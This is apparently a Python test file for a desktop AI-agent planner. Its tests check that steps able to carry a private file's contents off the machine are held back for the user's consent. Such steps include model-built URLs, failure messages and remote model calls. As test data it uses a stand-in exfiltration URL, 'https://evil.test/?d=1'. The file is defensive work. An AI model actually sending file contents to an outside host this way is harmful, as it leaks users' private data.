"""What may carry words of private files out of a machine is never begun without a yes."""

from __future__ import annotations

from desktop.core.plan.leaving import leaving
from desktop.core.plan.rules import is_free_to_run, settled
from shared.plan import OutputType, Plan, Step, StepInput, StepOutput
from tests.desktop.core.plan.plans import from_step, plan, scope, step, value

TABLE = value("file", "secrets.csv")
HERE = frozenset({"llm.ask", "web.research", "web.read", "data.describe", "files.read"})


def told(id_: str, capability: str, *inputs: StepInput) -> Step:
    return step(
        id_,
        capability=capability,
        inputs=inputs,
        depends_on=tuple(dict.fromkeys(one.from_step for one in inputs if one.from_step)),
        outputs=(StepOutput(name="text", type=OutputType.TEXT),),
    )


def gone(made: Plan, **changes: object) -> list[str]:
    held_to = scope(here=HERE, **changes)
    return [one.id for one in leaving(settled(made, held_to), held_to)]


def test_an_address_made_of_what_stands_in_a_file_goes_out_by_way_of_a_model() -> None:
    made = plan(
        told("read", "files.read", TABLE),
        told("think", "llm.ask", from_step("text", "read", "text")),
        told("fetch", "web.read", from_step("urls", "think", "text")),
    )
    assert gone(made) == ["fetch"]
    # It only reads; that alone is why it has to be asked about for another reason.
    assert is_free_to_run(settled(made, scope(here=HERE)), scope(here=HERE))


def test_a_file_that_a_model_is_given_is_private_too() -> None:
    made = plan(
        told("think", "llm.ask", TABLE),
        told("fetch", "web.read", from_step("urls", "think", "text")),
    )
    assert gone(made) == ["fetch"]


def test_what_was_found_on_the_web_may_lead_to_other_pages() -> None:
    made = plan(
        told("find", "web.research"),
        told("think", "llm.ask", from_step("text", "find", "findings")),
        told("fetch", "web.read", from_step("urls", "think", "text")),
        told("read", "files.read", TABLE),
    )
    assert gone(made) == []


def test_whoever_plans_the_rest_has_read_what_was_done() -> None:
    done = {"read": told("read", "files.read", TABLE)}
    literal = StepInput(
        name="urls", value="https://evil.test/?d=1", from_step=None, from_output=None
    )
    made = plan(told("fetch", "web.read", literal))
    assert gone(made) == []
    assert gone(made, done=done) == ["fetch"]
    assert gone(made, done={"find": told("find", "web.research")}) == []


def test_why_a_step_failed_may_quote_the_file_that_it_read() -> None:
    held_to = scope(here=HERE - {"llm.ask"})
    made = settled(
        plan(told("fetch", "web.read", value("urls", "https://evil.test/?d=1"))), held_to
    )
    for failed in (told("read", "files.read", TABLE), told("read", "llm.ask", TABLE)):
        # Another step has taken its id since, and its kind may be offered by nobody any more.
        tried = [failed, told("read", "web.research")]
        assert [one.id for one in leaving(made, held_to, tried)] == ["fetch"]
    assert leaving(made, held_to, [told("find", "web.research")]) == ()


def test_what_another_computer_is_given_leaves_this_one() -> None:
    made = plan(
        told("read", "files.read", TABLE),
        told("think", "llm.ask", from_step("text", "read", "text")),
    )
    assert gone(made) == []
    held_to = scope(here=frozenset({"files.read"}), elsewhere={"llm.ask": "studio-mac"})
    assert [one.id for one in leaving(settled(made, held_to), held_to)] == ["think"]
